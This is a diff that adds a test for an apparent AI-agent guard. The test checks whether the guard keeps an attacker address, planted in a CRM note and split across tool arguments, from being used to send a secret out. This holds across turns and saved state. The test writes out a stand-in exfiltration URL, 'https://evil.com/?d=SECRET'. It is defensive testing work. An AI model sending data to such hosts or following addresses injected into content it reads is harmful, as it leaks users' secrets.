@@ -360,6 +360,27 @@ async def test_s9_a_server_that_joins_its_arguments_quotes_nobody(output: str) -
         assert await run.call(FETCH, url=url)
 
 
+async def test_s9_nor_does_a_server_that_keeps_what_it_was_told() -> None:
+    """S9: Ada said yes to a note in the CRM, not to an address in it that leads elsewhere; nor after a
+    pause, or in the thread's next question. What the CRM has of others is quoted."""
+    evil, crm = "https://evil.com/?d=SECRET", "https://crm.com/notes/4"
+    run = Run()
+    await run.guard.on_run_start(LoopState())
+    await run.reads()
+    told = {"at": "https://evil.com/?d=", "more": ["SECRET"]}
+    with bound_request(RequestContext(asked(), "run_1", idempotency_key="run_1:told")):
+        run.guard.on_exposure(LOOK)
+        given = LOOK.arguments.model_validate(told)
+        await run.guard.after_tool(LOOK, given, ToolResult("kept"))
+    state = LoopState(turn=1, hooks={run.guard.name: run.guard.memory()})
+    later = Run()
+    await later.guard.on_run_start(LoopState.model_validate_json(state.model_dump_json()))
+    for each in (run, later):
+        assert not await each.call(LOOK, f"1. {evil} 2. {crm}", size=10)
+        assert await each.call(FETCH, url=evil)
+        assert not await each.call(FETCH, url=crm)
+
+
 async def test_what_others_quote_is_still_read_without_a_yes() -> None:
     """Honest work: links of a page on its own site, and results of a search."""
     run = await Run().reads()
